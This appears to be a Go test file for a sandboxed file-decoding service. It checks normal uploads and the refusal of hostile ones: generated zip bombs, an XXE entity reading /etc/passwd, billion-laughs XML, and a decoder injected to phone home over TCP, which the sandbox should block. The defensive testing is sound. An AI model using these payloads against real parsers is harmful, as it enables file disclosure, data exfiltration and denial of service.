package main

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"context"
	"encoding/json"
	"fmt"
	"hash/crc32"
	"image"
	"image/color"
	"image/gif"
	"image/jpeg"
	"image/png"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/sandbond/sandbond/internal/testenv"
	"github.com/sandbond/sandbond/sandbox"
)

func TestMain(m *testing.M) {
	sandbox.Init()
	os.Exit(m.Run())
}

// needRoot skips (fails under CI) where containers cannot be started.
func needRoot(t *testing.T) { testenv.NeedRoot(t, "the upload service's tests start containers") }

// startService starts the service with decoderSrc behind an httptest
// server and returns the upload URL.
func startService(t *testing.T, decoderSrc string) string {
	t.Helper()
	needRoot(t)
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	logs := io.Discard
	if testing.Verbose() {
		logs = os.Stderr
	}
	s, err := newService(ctx, decoderSrc, slog.New(slog.NewTextHandler(logs, nil)))
	if err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(s.Handler())
	t.Cleanup(func() {
		srv.Close()
		if err := s.Close(); err != nil {
			t.Errorf("closing the pool: %v", err)
		}
	})
	return srv.URL + "/upload"
}

// answer is a decoded response of the service.
type answer struct {
	Status int
	Result json.RawMessage `json:"result"`
	Error  errorInfo       `json:"error"`
}

func post(t *testing.T, url string, data []byte) answer {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	req, _ := http.NewRequestWithContext(ctx, http.MethodPost, url, bytes.NewReader(data))
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatalf("POST: %v", err)
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)
	var a answer
	if err := json.Unmarshal(body, &a); err != nil {
		t.Fatalf("status %d, body is not JSON: %v: %q", resp.StatusCode, err, body)
	}
	a.Status = resp.StatusCode
	return a
}

// wantResult checks a 200 answer's result against want, a JSON object
// (numbers compared as JSON numbers, keys in any order).
func wantResult(t *testing.T, a answer, want string) {
	t.Helper()
	if a.Status != http.StatusOK {
		t.Fatalf("status %d, error %+v; want 200", a.Status, a.Error)
	}
	var got, exp any
	if err := json.Unmarshal(a.Result, &got); err != nil {
		t.Fatal(err)
	}
	if err := json.Unmarshal([]byte(want), &exp); err != nil {
		t.Fatalf("bad want: %v", err)
	}
	g, _ := json.Marshal(got)
	e, _ := json.Marshal(exp)
	if !bytes.Equal(g, e) {
		t.Fatalf("result\n got %s\nwant %s", g, e)
	}
}

// wantError checks an error answer's status and kind (and limit, when the
// kind is "limit").
func wantError(t *testing.T, a answer, status int, kind, limit string) {
	t.Helper()
	if a.Status != status || a.Error.Kind != kind || a.Error.Limit != limit {
		t.Fatalf("got status %d, error %+v; want %d kind %q limit %q", a.Status, a.Error, status, kind, limit)
	}
}

// stillWorks checks that a good upload is decoded after a hostile one.
func stillWorks(t *testing.T, url string) {
	t.Helper()
	wantResult(t, post(t, url, goodXML(3)), `{"kind":"xml","root":"items","elements":4}`)
}

func goodXML(n int) []byte {
	var b strings.Builder
	b.WriteString(`<?xml version="1.0" encoding="UTF-8"?>` + "\n<items>\n")
	for i := range n {
		fmt.Fprintf(&b, "  <item id=\"%d\">n°%d</item>\n", i, i)
	}
	b.WriteString("</items>\n")
	return []byte(b.String())
}

func goodZip(t *testing.T) ([]byte, string) {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	files := []struct {
		name   string
		body   string
		method uint16
	}{
		{"notes.txt", strings.Repeat("to do: nothing\n", 40), zip.Deflate},
		{"src/", "", zip.Store},
		{"src/main.py", "print('hello')\n", zip.Store},
	}
	for _, f := range files {
		w, err := zw.CreateHeader(&zip.FileHeader{Name: f.name, Method: f.method})
		if err != nil {
			t.Fatal(err)
		}
		io.WriteString(w, f.body)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	// The expected listing, from Go's own reading of the archive.
	zr, err := zip.NewReader(bytes.NewReader(buf.Bytes()), int64(buf.Len()))
	if err != nil {
		t.Fatal(err)
	}
	var entries []string
	var total, ctotal uint64
	for _, f := range zr.File {
		entries = append(entries, fmt.Sprintf(`{"name":%q,"size":%d,"compressed_size":%d}`, f.Name, f.UncompressedSize64, f.CompressedSize64))
		total += f.UncompressedSize64
		ctotal += f.CompressedSize64
	}
	want := fmt.Sprintf(`{"kind":"zip","entries":[%s],"entry_count":%d,"total_size":%d,"total_compressed_size":%d}`,
		strings.Join(entries, ","), len(entries), total, ctotal)
	return buf.Bytes(), want
}

// zipBomb returns a zip of n entries of size bytes of zeros each, stored
// deflated (about 1/1000 of their size), with honest headers unless
// lieSize is not zero: then each entry declares lieSize bytes.
func zipBomb(t *testing.T, n int, size int64, lieSize uint64) []byte {
	t.Helper()
	var deflated bytes.Buffer
	fw, _ := flate.NewWriter(&deflated, flate.BestCompression)
	crc := crc32.NewIEEE()
	zeros := make([]byte, 1<<20)
	for range size >> 20 {
		fw.Write(zeros)
		crc.Write(zeros)
	}
	fw.Close()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for i := range n {
		h := &zip.FileHeader{Name: fmt.Sprintf("zeros-%02d.bin", i), Method: zip.Deflate,
			CRC32: crc.Sum32(), CompressedSize64: uint64(deflated.Len()), UncompressedSize64: uint64(size)}
		if lieSize != 0 {
			h.UncompressedSize64 = lieSize
		}
		w, err := zw.CreateRaw(h)
		if err != nil {
			t.Fatal(err)
		}
		w.Write(deflated.Bytes())
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func encodeImage(t *testing.T, kind string, w, h int) []byte {
	t.Helper()
	img := image.NewRGBA(image.Rect(0, 0, w, h))
	for y := range h {
		for x := range w {
			img.Set(x, y, color.RGBA{uint8(x * 7), uint8(y * 11), 99, 255})
		}
	}
	var buf bytes.Buffer
	var err error
	switch kind {
	case "png":
		err = png.Encode(&buf, img)
	case "jpeg":
		err = jpeg.Encode(&buf, img, nil)
	case "gif":
		err = gif.Encode(&buf, img, &gif.Options{NumColors: 256, Quantizer: nil, Drawer: nil})
	}
	if err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// xxe is an external-entity attack: it would read a host file.
const xxe = `<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<r>&x;</r>
`

func TestRun(t *testing.T) {
	needRoot(t)
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	var out strings.Builder
	if err := run(ctx, &out); err != nil {
		t.Fatalf("%v\n%s", err, out.String())
	}
	for _, want := range []string{
		`sample.zip         -> 200 {"result":{"entries":[{"compressed_size":79,"name":"README.txt","size":87}`,
		`sample.xml         -> 200 {"result":{"elements":5,"kind":"xml","root":"invoice"}}`,
		`sample.png         -> 200 {"result":{"height":24,"kind":"png","width":64}}`,
		`billion-laughs.xml -> 422 {"error":{"kind":"refused","message":"xml: a document type declaration (DOCTYPE) is refused`,
		`truncated.zip      -> 400 {"error":{"kind":"malformed","message":"zip: BadZipFile:`,
	} {
		if !strings.Contains(out.String(), want) {
			t.Errorf("output lacks %q:\n%s", want, out.String())
		}
	}
}

// TestSampleMatchesMainJob holds testdata/sample.zip.json, which the
// README's main job (.ci/main) compares sandboxd's answer with, to what the
// decoder says about testdata/sample.zip.
func TestSampleMatchesMainJob(t *testing.T) {
	url := startService(t, decoderPy)
	data, err := os.ReadFile("testdata/sample.zip")
	if err != nil {
		t.Fatal(err)
	}
	want, err := os.ReadFile("testdata/sample.zip.json")
	if err != nil {
		t.Fatal(err)
	}
	a := post(t, url, data)
	if a.Status != http.StatusOK || !bytes.Equal(a.Result, bytes.TrimSpace(want)) {
		t.Fatalf("status %d, result\n%s\nwant (testdata/sample.zip.json)\n%s", a.Status, a.Result, want)
	}
}

func TestGoodUploads(t *testing.T) {
	url := startService(t, decoderPy)
	zipData, zipWant := goodZip(t)
	for _, c := range []struct {
		name string
		data []byte
		want string
	}{
		{"zip", zipData, zipWant},
		{"xml", goodXML(100), `{"kind":"xml","root":"items","elements":101}`},
		{"png", encodeImage(t, "png", 37, 21), `{"kind":"png","width":37,"height":21}`},
		{"jpeg", encodeImage(t, "jpeg", 50, 30), `{"kind":"jpeg","width":50,"height":30}`},
		{"gif", encodeImage(t, "gif", 12, 7), `{"kind":"gif","width":12,"height":7}`},
		{"text utf-8", []byte("line one\nline two\nlíne three"), `{"kind":"text","encoding":"utf-8","lines":3,"characters":28}`},
		{"text ascii", []byte("a\nb\n"), `{"kind":"text","encoding":"ascii","lines":2,"characters":4}`},
		{"text latin-1", []byte("caf\xe9\n"), `{"kind":"text","encoding":"iso-8859-1","lines":1,"characters":5}`},
	} {
		t.Run(c.name, func(t *testing.T) { wantResult(t, post(t, url, c.data), c.want) })
	}
}

// TestHostileUploads sends each hostile upload, checks the exact answer,
// and then that a good upload is still decoded.
func TestHostileUploads(t *testing.T) {
	url := startService(t, decoderPy)
	billionLaughs, err := samples.ReadFile("testdata/billion-laughs.xml")
	if err != nil {
		t.Fatal(err)
	}
	zipData, _ := goodZip(t)
	pngData := encodeImage(t, "png", 37, 21)
	for _, c := range []struct {
		name   string
		data   []byte
		status int
		kind   string
		msg    string // in the error's message
	}{
		// 16 entries of 64 MiB of zeros in 1 MiB of zip: refused from the
		// central directory, before anything is inflated.
		{"zip bomb", zipBomb(t, 16, 64<<20, 0), 422, "refused", "zip: 1073741824 bytes uncompressed (central directory), more than the 67108864"},
		// The same entries declaring 1 KiB each: inflating stops at the
		// declared size and the CRC gives the lie away.
		{"zip bomb, lying sizes", zipBomb(t, 16, 64<<20, 1024), 400, "malformed", "zip: BadZipFile: Bad CRC-32 for file 'zeros-00.bin'"},
		{"too many zip entries", manyEntries(t, 1001), 422, "refused", "zip: 1001 entries, more than the 1000"},
		{"billion laughs", billionLaughs, 422, "refused", "xml: a document type declaration (DOCTYPE) is refused"},
		{"xxe", []byte(xxe), 422, "refused", "DOCTYPE"},
		{"undeclared entity", []byte("<r>&lol9;</r>"), 400, "malformed", "xml: ExpatError: undefined entity"},
		{"deep xml", []byte(strings.Repeat("<a>", 300) + strings.Repeat("</a>", 300)), 422, "refused", "xml: nested deeper than 256"},
		{"truncated zip", zipData[:len(zipData)/2], 400, "malformed", "zip: BadZipFile: File is not a zip file"},
		{"truncated png", pngData[:len(pngData)-20], 400, "malformed", "png: truncated in chunk 'IDAT'"},
		{"truncated jpeg", encodeImage(t, "jpeg", 50, 30)[:100], 400, "malformed", "jpeg: truncated in marker"},
		{"truncated xml", goodXML(5)[:len(goodXML(5))-10], 400, "malformed", "xml: ExpatError: no element found"},
		{"unknown binary", []byte("\x7fELF\x02\x01\x01\x00\x00\x00"), 415, "unsupported", "binary data of an unknown format"},
		{"empty", nil, 400, "empty", "the upload is empty"},
		{"too large", make([]byte, maxUpload+1), 413, "too_large", "uploads are limited to 4194304 bytes"},
	} {
		t.Run(c.name, func(t *testing.T) {
			a := post(t, url, c.data)
			wantError(t, a, c.status, c.kind, "")
			if !strings.Contains(a.Error.Message, c.msg) {
				t.Errorf("message %q lacks %q", a.Error.Message, c.msg)
			}
			stillWorks(t, url)
		})
	}
	t.Run("GET", func(t *testing.T) {
		resp, err := http.Get(url)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != http.StatusMethodNotAllowed {
			t.Fatalf("GET /upload: %d, want 405", resp.StatusCode)
		}
	})
}

func manyEntries(t *testing.T, n int) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for i := range n {
		if _, err := zw.Create(fmt.Sprintf("f%d", i)); err != nil {
			t.Fatal(err)
		}
	}
	zw.Close()
	return buf.Bytes()
}

// TestPhoneHome runs a hostile decoder that, given an upload starting with
// PHONE-HOME, tries to send it over TCP to a listener of the test on every
// address of the host: the sandbox has no network, so the connect fails
// inside it and the listener sees nothing.
func TestPhoneHome(t *testing.T) {
	needRoot(t)
	ln, err := net.Listen("tcp", ":0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	var conns atomic.Int32
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			conns.Add(1)
			c.Close()
		}
	}()
	port := ln.Addr().(*net.TCPAddr).Port
	hosts := []string{"127.0.0.1", "::1"}
	if addrs, err := net.InterfaceAddrs(); err == nil {
		for _, a := range addrs {
			if ipn, ok := a.(*net.IPNet); ok && !ipn.IP.IsLoopback() && !ipn.IP.IsLinkLocalUnicast() {
				hosts = append(hosts, ipn.IP.String())
			}
		}
	}
	// The test's own connect works: the listener is reachable from the host.
	if c, err := net.Dial("tcp", fmt.Sprintf("127.0.0.1:%d", port)); err != nil {
		t.Fatalf("the host cannot reach its own listener: %v", err)
	} else {
		c.Close()
	}
	deadline := time.Now().Add(5 * time.Second)
	for conns.Load() != 1 && time.Now().Before(deadline) {
		time.Sleep(10 * time.Millisecond)
	}
	conns.Store(0)

	hostsPy, _ := json.Marshal(hosts)
	url := startService(t, decoderPy+fmt.Sprintf(`
import socket as _socket
_honest_decode = decode
def decode(data):
    if not data.startswith(b"PHONE-HOME"):
        return _honest_decode(data)
    errors = []
    for host in %s:
        try:
            s = _socket.create_connection((host, %d), timeout=2)
        except OSError as e:
            errors.append(e)
            continue
        s.sendall(data)
        s.close()
        return {"phoned_home": host}
    raise errors[0]
`, hostsPy, port))
	stillWorks(t, url)
	a := post(t, url, []byte("PHONE-HOME: the secrets of the upload"))
	wantError(t, a, http.StatusBadGateway, "decoder_failed", "")
	if a.Error.Type != "OSError" || !strings.Contains(a.Error.Message, "Network is unreachable") {
		t.Errorf("error %+v; want an OSError: Network is unreachable", a.Error)
	}
	time.Sleep(200 * time.Millisecond)
	if n := conns.Load(); n != 0 {
		t.Fatalf("the listener saw %d connections from the sandbox (tried %v)", n, hosts)
	}
	stillWorks(t, url)
}

// TestMemoryBackstop runs a careless decoder that inflates every entry of
// a zip bomb into memory: the sandbox's memory limit stops it, the service
// answers 422 limit/memory, and the next upload gets a fresh decoder.
func TestMemoryBackstop(t *testing.T) {
	url := startService(t, decoderPy+`
_honest_decode = decode
def decode(data):
    if not data.startswith(b"PK"):
        return _honest_decode(data)
    z = zipfile.ZipFile(io.BytesIO(data))
    contents = [z.read(name) for name in z.namelist()]
    return {"inflated": sum(len(c) for c in contents)}
`)
	stillWorks(t, url)
	a := post(t, url, zipBomb(t, 16, 64<<20, 0))
	wantError(t, a, http.StatusUnprocessableEntity, "limit", sandbox.LimitMemory)
	stillWorks(t, url)
}

// TestDaemonConfig checks that sandboxd's shipped config for the main job
// serves this decoder, from this very file, in the shipped decoder profile.
func TestDaemonConfig(t *testing.T) {
	const path = "../../cmd/sandboxd/configs/decoder.json"
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	var cfg struct {
		Callables []struct {
			Name, Profile, Language, Function string
			SetupFile                         string `json:"setup_file"`
		}
	}
	if err := json.Unmarshal(data, &cfg); err != nil {
		t.Fatalf("%s: %v", path, err)
	}
	if len(cfg.Callables) != 1 {
		t.Fatalf("%s: %d callables, want 1", path, len(cfg.Callables))
	}
	c := cfg.Callables[0]
	if c.Name != "decode" || c.Profile != "decoder" || c.Language != "python" || c.Function != "decode" {
		t.Errorf("%s: callable %+v; want decode: profile decoder, python, function decode", path, c)
	}
	src, err := os.ReadFile(filepath.Join(filepath.Dir(path), c.SetupFile))
	if err != nil {
		t.Fatalf("%s: setup_file: %v", path, err)
	}
	if string(src) != decoderPy {
		t.Errorf("%s: setup_file %s is not decoder/decoder.py", path, c.SetupFile)
	}
}
